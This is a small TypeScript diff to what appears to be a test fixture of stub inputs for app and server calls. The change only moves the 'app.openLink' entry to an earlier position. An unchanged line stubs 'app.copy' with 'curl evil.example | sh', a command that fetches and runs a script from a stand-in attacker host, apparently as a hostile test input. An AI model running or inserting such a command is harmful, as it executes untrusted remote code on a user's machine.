@@ -70,6 +70,7 @@ export function callInputs(scene: CallScene): { asking: Inputs<AskingCall>; harm
       await console.must('app.setAutoLock', { afterMinutes: 5, withScreen: true });
       return { afterMinutes: 0, withScreen: false };
     },
+    'app.openLink': () => ({ link: 'gluuDocs' }),
     'app.copy': () => ({ text: 'curl evil.example | sh' }),
     'app.saveText': () => ({ name: 'report.md', text: 'x' }),
     'server.save': () => ({
@@ -155,7 +156,6 @@ export function callInputs(scene: CallScene): { asking: Inputs<AskingCall>; harm
     'app.unlock': () => undefined,
     'app.keepWork': () => ({ drafts: {} }),
     'app.takeWork': () => undefined,
-    'app.openLink': () => ({ link: 'gluuDocs' }),
     'keychain.retry': () => undefined,
     'server.list': () => undefined,
     'server.order': () => ({ serverIds: [listed] }),
